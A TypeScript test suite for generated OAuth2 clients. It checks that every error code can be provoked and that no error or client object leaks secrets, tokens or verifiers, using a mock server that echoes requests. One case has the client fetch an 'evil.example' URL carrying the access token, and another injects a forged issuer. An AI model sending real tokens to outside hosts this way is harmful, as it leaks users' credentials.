import { generateKeyPairSync } from 'node:crypto'
import { describe, expect, test } from 'vitest'
import { type Client, codesOf, load } from '../support/emitted.ts'
import { SecretFinder, shownOf } from '../support/secrets.ts'

/*
 * Clients of every grant, whose servers repeat everything they receive in their errors. Every error code is provoked.
 * Neither errors nor clients show a secret, a token, a code or a verifier.
 */

const pem = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey
const privateKey = pem.export({ type: 'pkcs8', format: 'pem' }).toString()

const secret = 'Zp4k-XfQ9~s3cret/Value+w1th=signs & blanks'
const password = 'hJ2m_p4ssw0rd&of,the.user'
const first = 'wQ7x-Z3mB9tN4cK8'
const access = 'eV8rTq1nAccessT0kenOfAllThings'
const refresh = 'pL5s.R3fr35hT0k~9vGq/1x'
const code = 'yK9d-C0deOfTheL0gin'
const deviceCode = 'uB6f_Dev1ceC0de-of-the-screen'
const codeVerifier = `gH3v.${'Ver1fier~'.repeat(5)}`
const state = 'rN2w-StateOfTheL0gin'
const realm = 'tM5b/Realm0fTheUser'

const secrets = [
  secret,
  password,
  first,
  access,
  refresh,
  code,
  deviceCode,
  codeVerifier,
  privateKey,
  state,
  realm,
]

type Answer = (url: string) => Response
type Options = Readonly<Record<string, unknown>>

/** Members of every client in the table, and members that some have. */
interface OAuthClient extends Client {
  readonly tokens: { readonly get: () => Promise<unknown>; readonly set: (tokens: object) => Promise<void> }
  readonly refresh?: () => Promise<unknown>
  readonly exchange?: (redirectUrl: string, login: object) => Promise<unknown>
  readonly deviceLogin?: (init: object) => Promise<unknown>
  readonly logout?: () => Promise<void>
}

type Call = (client: OAuthClient) => Promise<unknown> | undefined

/** A way to make a client fail. */
interface Failure {
  /** `undefined`: any error, or none. */
  readonly code: string | undefined
  /** Response of the token endpoints; by default they refuse, and repeat what they received. */
  readonly answer?: Answer
  /** Defaults to 400. */
  readonly status?: number
  /** Response of the API; by default it refuses the token. */
  readonly api?: Answer
  readonly options?: Options
  readonly call?: Call
}

interface Row {
  /** Lines of `auth`. */
  readonly auth: string
  readonly credentials: Readonly<Record<string, string>>
  /** Codes of its type that never occur: a function that it calls may throw them, but another error comes first. */
  readonly never?: readonly string[]
}

const rows: Readonly<Record<string, Row>> = {
  'authorization code': {
    auth: 'clientAuthentication: client_secret_basic, authorizationUrl: https://auth.example.com/authorize, issuer: https://auth.example.com',
    credentials: { clientSecret: secret },
  },
  'authorization code with tokens for one use': {
    auth: 'refresh: { useRefreshTokenOnce: true }, authorizationUrl: https://auth.example.com/authorize, tokenRequest: { bodyFormat: json }',
    credentials: { clientSecret: secret },
  },
  'authorization code with values of the redirect': {
    auth: 'clientAuthentication: none, authorizationUrl: https://auth.example.com/authorize, revocationUrl: "https://auth.example.com/${redirect.realm}/revoke", tokenRequest: { additionalPostData: { state: "${redirect.state}" }, headers: { X-Realm: "${redirect.realm}" } }, refresh: { additionalPostData: { realm: "${redirect.realm}" } }',
    credentials: {},
  },
  'device code': {
    auth: 'grantType: device_code, deviceAuthorizationUrl: https://auth.example.com/device',
    credentials: { clientSecret: secret },
  },
  'client credentials by GET': {
    auth: 'grantType: client_credentials, tokenRequest: { method: GET }',
    credentials: { clientSecret: secret },
  },
  'client credentials by a signed assertion': {
    auth: 'grantType: client_credentials, clientAuthentication: private_key_jwt, clientAssertion: { algorithm: ES256 }',
    credentials: { clientAssertionPrivateKey: privateKey },
  },
  'an assertion': {
    auth: 'grantType: jwt_bearer, clientAuthentication: none, assertion: { algorithm: ES256, issuer: me }, addTo: query',
    credentials: { assertionPrivateKey: privateKey },
  },
  password: {
    auth: 'grantType: password, username: "${credentials.user}"',
    credentials: { clientSecret: secret, password, user: first },
    never: ['login_required'],
  },
  'a refresh token': {
    auth: 'grantType: refresh_token, clientAuthentication: client_secret_basic, basicEncoding: form',
    credentials: { clientSecret: secret, refreshToken: first },
    never: ['token_request'],
  },
  'a custom grant': {
    auth: 'grantType: custom, tokenRequest: { additionalPostData: { grant_type: account, key: "${credentials.key}" } }, clientAuthentication: none',
    credentials: { key: password },
    never: ['login_required'],
  },
}

function configOf({ auth }: Row): string {
  return `
    baseUrl: https://\${variables.host}.example.com
    variables: { host: {}, note: { pattern: "^[a-z]+$" } }
    headers: { X-Note: "\${variables.note}" }
    auth: { type: oauth2, accessTokenUrl: https://auth.example.com/token, clientId: app, ${auth} }`
}

const variables = { host: 'api', note: 'a' }
const login = { state, codeVerifier }
const redirect = (query: string): string => `http://127.0.0.1:8976/callback?${query}`
const exchange =
  (query: string): Call =>
  (client) =>
    client.exchange?.(
      redirect(`${query}${query.includes('iss=') ? '' : '&iss=https://auth.example.com'}&realm=${realm}`),
      login,
    )
const device: Call = (client) => client.deviceLogin?.({ onPrompt: () => {} })
const good = { accessToken: access, response: {}, redirect: { realm } }
const wrongKey = privateKey.slice(0, -60)
const ended = { ...good, refreshToken: refresh, expiresAt: 1000 }

const json = (status: number, body: object): Response => Response.json(body, { status })
const tokens: Answer = () => json(200, { access_token: access, refresh_token: refresh, scope: 'all' })

const deniedOnDevice: Answer = (url) =>
  url.endsWith('/device')
    ? json(200, { device_code: deviceCode, user_code: 'AB', verification_uri: 'https://example.com' })
    : json(400, { error: 'access_denied', error_description: `no ${deviceCode}` })

/** Errors that platforms throw: the URL is in the message of a cause (Deno), or in a property (Bun). */
const networkErrors: readonly ((url: string) => Error)[] = [
  () => new TypeError('fetch failed', { cause: new Error('connect ECONNREFUSED') }),
  (url) => new TypeError('fetch failed', { cause: new Error(`error sending request for url (${url}): no`) }),
  (url) => Object.assign(new Error('Unable to connect.'), { code: 'ECONNREFUSED', path: url }),
]

/** Ways to make a client fail, with the code to expect if the client can have it. */
function failuresOf({ credentials }: Row): readonly Failure[] {
  const broken = (name: string): Options => ({
    tokenStore: {
      get: () => undefined,
      set: () => {},
      clear: () => {},
      [name]: () => {
        throw new Error('The disk is full.')
      },
    },
  })
  return [
    ...Object.keys(credentials).flatMap((name) =>
      [device, exchange(`state=${state}&code=${code}`), undefined].map((call) => ({
        code: 'missing_credential',
        options: { credentials: { ...credentials, [name]: () => undefined } },
        ...(call && { call }),
      })),
    ),
    {
      code: 'invalid_credential',
      options: {
        credentials: { ...credentials, assertionPrivateKey: wrongKey, clientAssertionPrivateKey: wrongKey },
      },
    },
    { code: 'invalid_credential', options: { tokens: { accessToken: `${access}π` } } },
    {
      code: 'missing_variable',
      options: { tokens: good, variables: { ...variables, host: () => undefined } },
    },
    { code: 'invalid_variable', options: { tokens: good, variables: { ...variables, note: secret } } },
    {
      code: 'host_not_allowed',
      options: { tokens: good },
      call: (client) => client.fetch(`https://evil.example/?q=${access}`),
    },
    { code: 'login_required', options: { tokens: good } },
    { code: 'login_required', options: { tokens: ended } },
    {
      code: 'login_denied',
      call: exchange(`state=${state}&error=access_denied&error_description=no`),
    },
    { code: 'login_denied', call: exchange(`state=${state}`) },
    { code: 'login_denied', answer: deniedOnDevice, call: device },
    { code: 'state_mismatch', call: exchange(`state=other&code=${code}`) },
    { code: 'state_mismatch', call: exchange(`state=${state}&code=${code}&iss=https://evil.example`) },
    { code: 'token_request', call: exchange(`state=${state}&code=${code}`) },
    { code: 'token_request', call: device },
    { code: 'token_request' },
    { code: 'token_request', options: { tokens: ended } },
    { code: 'logout_failed', options: { tokens: ended }, call: (client) => client.logout?.() },
    { code: 'token_response', answer: () => json(200, { token: access }), options: { tokens: ended } },
    {
      code: 'token_response',
      answer: () => json(200, { access_token: `${access}\n` }),
      call: exchange(`state=${state}&code=${code}`),
    },
    { code: 'token_response', answer: () => json(200, {}), call: device },
    { code: 'refresh_failed', status: 503, options: { tokens: ended } },
    { code: 'refresh_failed', status: 503, call: device },
    ...['get', 'set', 'lock'].map((name) => ({
      code: 'store_failed',
      answer: tokens,
      options: { ...broken(name), tokens: ended },
    })),
    {
      code: 'body_not_replayable',
      answer: tokens,
      options: { tokens: { ...good, refreshToken: refresh } },
      call: (client) => {
        const body = new Blob(['a=b']).stream()
        return client.fetch('/', { method: 'POST', body, duplex: 'half' } as RequestInit)
      },
    },
    // These are not the client's own errors.
    { code: undefined, call: (client) => client.tokens.get() },
    { code: undefined, answer: tokens, call: exchange(`state=${state}&code=${code}&session_state=1`) },
    { code: undefined, answer: tokens, api: () => json(200, {}), call: (client) => client.fetch('/') },
    {
      code: undefined,
      answer: tokens,
      options: {
        onTokens: () => {
          throw new Error('no')
        },
      },
    },
  ]
}

/** Secrets that a server issues or receives, whose values the test cannot know beforehand. */
function proofsOf(body: string): readonly string[] {
  return [...new URLSearchParams(body)]
    .filter(([name]) => /assertion$/.test(name))
    .map(([, value]) => value.slice(-32))
}

describe.each(Object.entries(rows))('%s', (_, row) => {
  const config = configOf(row)

  /** A client whose token endpoint repeats what it receives, unless `answers` says otherwise. */
  async function clientOf(
    {
      answer,
      status = 400,
      api = () => json(401, { error: 'invalid_token' }),
      options,
    }: Omit<Failure, 'code'>,
    failure?: (url: string) => Error,
  ): Promise<{ readonly client: OAuthClient; readonly sent: string[] }> {
    const { create } = await load(config)
    const sent: string[] = []
    const fetch = async (url: string, init: RequestInit): Promise<Response> => {
      if (!url.startsWith('https://auth.example.com/')) return api(url)
      const body = `${init.body ?? ''}`
      sent.push(body)
      if (failure) throw failure(url)
      if (answer) return answer(url)
      const headers = JSON.stringify([...new Headers(init.headers)])
      const form = new URLSearchParams(body.startsWith('{') ? '' : body)
      const decoded = [...form, ...new URL(url).searchParams].flat().join(' ')
      // Some only repeat what follows the scheme.
      const [, proof] = `${new Headers(init.headers).get('authorization')}`.split(' ')
      const description = `${headers} ${decoded} ${url} ${body} ${proof}`
      return json(status, { error: 'invalid_request', error_description: description })
    }
    const given = { variables, credentials: row.credentials, fetch, sleep: async () => {} }
    return { client: create({ ...given, ...options }) as OAuthClient, sent }
  }

  function expectHidden(value: unknown, sent: readonly string[]): void {
    const finder = new SecretFinder([...secrets, ...sent.flatMap(proofsOf)])
    expect(shownOf(value).flatMap((text) => finder.find(text) ?? [])).toEqual([])
  }

  async function errorOf(call: Promise<unknown> | undefined): Promise<unknown> {
    return await call?.then(
      () => undefined,
      (thrown: unknown) => thrown,
    )
  }

  test('has each code of its errors, without a secret', async () => {
    const { never = [] } = row
    const codes = codesOf(config)
    const provoked = new Set<string>()
    for (const failure of failuresOf(row)) {
      const { client, sent } = await clientOf(failure)
      const error = await errorOf((failure.call ?? ((own) => own.fetch('/')))(client))
      expectHidden(error, sent)
      expectHidden(client, sent)
      const { code } = Object(error) as { code?: string }
      if (code !== undefined) expect(codes).toContain(code)
      if (code === failure.code && code !== undefined) provoked.add(code)
    }
    // Every platform here has Web Crypto, and waiting for a lock takes too long; other tests have both.
    const left = codes.filter((code) => !['unsupported_runtime', 'timeout', ...never].includes(code))
    expect([...provoked].sort()).toEqual([...left].sort())
  })

  test.each(networkErrors.map((make, index) => [index, make] as const))(
    'has no secret in the cause of a network error, form %i',
    async (_, make) => {
      const { client, sent } = await clientOf({ options: { tokens: ended } }, make)
      const error = await errorOf(client.fetch('/'))
      expect(error).toMatchObject({ code: 'refresh_failed' })
      expect((error as Error).cause).toBeInstanceOf(Error)
      expectHidden(error, sent)
      expectHidden(await errorOf(exchange(`state=${state}&code=${code}`)(client)), sent)
    },
  )
})

test.each(secrets)('the search finds %s in what a server repeats', (text) => {
  const finder = new SecretFinder(secrets)
  expect(shownOf(new Error(`no: ${text}`)).some((shown) => finder.find(shown))).toBe(true)
})
